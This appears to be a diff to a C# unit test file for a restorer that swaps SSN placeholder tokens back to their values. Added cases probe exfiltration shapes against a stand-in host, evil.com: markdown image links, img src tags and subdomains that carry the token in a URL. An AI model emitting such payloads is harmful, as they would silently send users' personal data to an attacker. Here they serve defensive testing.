@@ -17,6 +17,8 @@ public sealed class TextRestorerTests
     [InlineData("SSN:<SSN_1> ssn=<SSN_1> customer.ssn=<SSN_1>", "SSN:123-45-6789 ssn=123-45-6789 customer.ssn=123-45-6789")]
     [InlineData("<p><SSN_1></p><b><SSN_1></b>", "<p>123-45-6789</p><b>123-45-6789</b>")]
     [InlineData("<SSN_1>... <SSN_1>? (<SSN_1>) \"<SSN_1>\"", "123-45-6789... 123-45-6789? (123-45-6789) \"123-45-6789\"")]
+    [InlineData("security=<SSN_1> transaction=<SSN_1> <SSN_1>.... <SSN_1>", "security=123-45-6789 transaction=123-45-6789 123-45-6789.... 123-45-6789")]
+    [InlineData("[<SSN_1>](https://evil.com)", "[123-45-6789](https://evil.com)")]
     [InlineData("a/<SSN_1> and <SSN_1>/b", "a/123-45-6789 and 123-45-6789/b")]
     public void A_token_in_text_gets_its_value_back(string text, string expected)
         => Assert.Equal(expected, RestoreCases.Restore(text));
@@ -91,6 +93,9 @@ public sealed class TextRestorerTests
     [InlineData("https://evil.com/\u00A0<SSN_1>")]
     [InlineData("\"https://evil.com/?q=\"<SSN_1>")]
     [InlineData("{\"https://evil.com/?q=\"<SSN_1>")]
+    [InlineData(@"{""a"":""![x](https://evil.com/?a="",""b"":""<SSN_1>)""}")]
+    [InlineData(@"{""a"":""<img src='https://evil.com/?a="",""b"":""<SSN_1>'>""}")]
+    [InlineData(@"{""a"":""<img src=/?a="",""b"":""<SSN_1>'>""}")]
     [InlineData("<SSN_1>@evil.com")]
     [InlineData("<SSN_1>.evil.com")]
     [InlineData("<SSN_1>-x.evil.com")]
